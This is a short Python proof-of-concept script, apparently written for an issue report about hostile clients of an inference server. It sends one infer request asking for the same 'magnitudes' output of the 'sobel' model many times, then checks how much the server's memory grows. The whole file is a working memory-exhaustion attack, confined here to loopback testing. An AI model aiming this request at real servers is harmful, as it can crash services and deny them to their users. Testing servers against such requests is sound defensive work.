#!/usr/bin/env python3
"""Attack 1 of the hostile-clients issue: one HTTP infer on `sobel` (64x256 image, binary) asking for
`magnitudes` N times. Usage: python3 repeated-outputs.py PORT N (loopback only). Prints the answer's first bytes;
read the server's VmHWM from /proc/PID/status before and after."""
import socket, sys, json
port=int(sys.argv[1]); n=int(sys.argv[2])
h,w=64,256
head=json.dumps({"inputs":[{"name":"image","datatype":"UINT8","shape":[h,w],"parameters":{"binary_data_size":h*w}}],"outputs":[{"name":"magnitudes"}]*n}).encode()
body=head+bytes(i%251 for i in range(h*w))
s=socket.create_connection(("127.0.0.1",port)); s.settimeout(120)
s.sendall(("POST /v2/models/sobel/infer HTTP/1.1\r\nHost: x\r\nConnection: close\r\nContent-Length: %d\r\nInference-Header-Content-Length: %d\r\n\r\n"%(len(body),len(head))).encode()+body)
out=b""
try:
    while True:
        c=s.recv(1<<20)
        if not c: break
        out+=c
except Exception as e: print("error", e)
print(len(body), "byte request ->", out[:40], len(out), "bytes back")
